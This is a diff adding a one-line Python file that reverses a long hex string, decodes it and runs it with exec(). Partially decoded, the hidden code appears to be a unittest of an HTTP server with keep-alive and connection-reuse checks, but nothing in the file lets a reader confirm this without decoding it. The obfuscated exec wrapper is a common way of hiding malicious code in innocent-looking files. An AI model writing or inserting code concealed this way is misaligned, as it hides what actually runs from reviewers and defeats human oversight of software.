@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a0923302c2d5223756373796d622b5d59756b6f576e69637f6c636b5374716473782c616571754472756373716e266c656370202020202020202a0921302c2d5223756373796d622b5d59756b6f5566796c616f5075656b6b5374716473782c616571754472756373716e266c656370202020202020202a092823747164737f5c6f6f607e25636e6164737e6944727f60737e616274502d30237471647370202020202020202a0a0923302c276e69637f6c63682475676f5e266c6563702d3029756b6f576e69637f6c6360202020202020202a0923302c2566796c616f5075656b682475676f5e266c6563702d3029756b6f5566796c616f5075656b60202020202020202a0922756c646e616845637f6c634f5825667275637f5e266c6563702c2922756c646e61684566796c614075656b4f5825667275637f5e266c6563702d30276e69637f6c63602c2566796c616f5075656b60202020202020202a0a39266c65637824727f607f5275607f5562716f53747164737f5473756470266564602020202a0a092d7031302a3223756373796d62202c20302a322374796862202c2031302a322374737565717562722b702c2d59756b6b592823747164737f5c6f6f607e25636e6164737e6944727f60737e616274582c616571754472756373716e266c656370202020202020202a092031302c237473656e6e6f636e227566727563782c616571754472756373716e266c656370202020202020202a0a092031302c227566727563782475676f5e266c6563702d3029756b60202020202020202a0922756c646e616845637f6c634f5825667275637f5e266c6563702d3022756672756370202020202020202a0a39266c65637823756373796d6f53716f547e657f636f537473656e6e6f6365627f5473756470266564602020202a0a092d71302a3223756373796d62202c29302a322374796862202c2031302a322374737565717562722b702c2d59756b6b592823747164737f5c6f6f607e25636e6164737e6944727f60737e616274582c616571754472756373716e266c656370202020202020202a0921302c237473656e6e6f636e227566727563782c616571754472756373716e266c656370202020202020202a0a092031302c227566727563782475676f5e266c6563702d3029756b60202020202020202a0922756c646e61684566796c614075656b4f5825667275637f5e266c6563702d3022756672756370202020202020202a0a39266c6563782465637575627f5562716f537e6f696473656e6e6f636f5566796c616f5075656b6f5473756470266564602020202a0a022d74727f607b7a3d74737f686b7226602e627574756270202020202020202a09282375747164737f527f666f55637961627e29222f2d74727f607b7a3d74737f686b7f2f2a307474786226682475676e25636e6164737e6944727f60737e6162745020202020202020202020202a0a3923756d69647825676e6162702e69602f50227f6660202020202020202a037375627464616f5275667275637e227566727563702d3024727f60702c24737f6860202020202020202a0a327473702e3d2029247e69602a33756d6964702c227566727563702c266c6563782475676f50266564602020202a0a027566727563702e627574756270202020202020202a092e677f64647578637e2275667275637820757e61656c634464616e266c656370202020202020202a0925637f6c636f5275667275637e2275667275637820757e61656c634464616e266c656370202020202020202a092824727164737e29256572745d3e6f6d656164602c2d75303e20302a322c61667275647e696f5c6c6f60722b7d33776271677b602c22756675627f666f55667275637e2275667275637d347567627164782461656278645e276e6964616562786470202020202020202a0922756c646e616868227566727563576e69647e657f634f502d3022756672756370202020202020202a0a327566727563576e69647e657f634f502e3d202922756c646e6168602c266c65637825667275637f50266564602020202a0a0924756375627e23747164737e25636e6164737e6944727f60737e6162745820757e61656c634464616e266c656370202020202020202a0925637f6c636e25636e6164737e6944727f60737e6162745820757e61656c634464616e266c656370202020202020202a092824756375627e23747164737e25636e6164737e6944727f60737e61627450202020202020202a092825637f6c636e25636e6164737e6944727f60737e61627450202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e65782473756453747164735c6f6f60502373716c636a0a0a0928247375657175627f5475676e29282275607573702e627574756270202020202020202a01302d3b20237473656e6e6f636e266c656370202020202020202a0a39266c656378247375657175627f54756760266564602020202a0a00302d30237473656e6e6f636e266c656370202020202020202a0922756c646e6168602c2920302c22213e203e203e2732313228282f5f54796e696f5f5e2928227560757370202020202020202a0a3922756c646e6168602c266c6563782f5f54796e696f5f50266564602020202a0a05657274502d30237461656278647f5e6f6d656164602020202a0a3922756672756350545458476e6964616562786458227566727563576e69647e657f634f502373716c636a0a0a02203e213f2054545842202d302e6f69637275667f5c6f636f647f6270702020202a04737565717562702972756675602275647661602e6f696473656e6e6f63602568647025637f6c63602375637e6f6073756270203e213f205454584023202020202a0a3922756c646e61684f5822756c646e616845637f6c634f502373716c636a0a0a02213e213f2054545842202d302e6f69637275667f5c6f636f647f6270702020202a0a3922756c646e61684f5822756c646e61684566796c614075656b4f502373716c636a0a0a0373716070202020202020202a0a39237762716a202c266c6563782567616373756d6f576f6c60266564602020202a0a0929746f626825647962777e256c6966677e266c656370202020202020202a0928237275646165686f546e656e266c656370202020202020202a09292929746f62682e656c68227473702c222864776e656c4d247e65647e6f6342282275646165686f546e65637e266c656370202020202020202a092030323825637e6f607375627f546e65637e266c656370202020202020202a022b6f6222602d3029746f6260202020202020202a0a39266c6563782455474f5f6460266564602020202a0a3922756c646e61684473756571756250545458456371624822756c646e61684f502373716c636a0a0a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f62766a0a02756672756350545458476e69646165627864502c22756c646e61684473756571756250545458456371624024727f607d69602275667275637e20747478602d6f62766a0473756474796e657024727f607d696a076e696461656278647024727f607d696" ));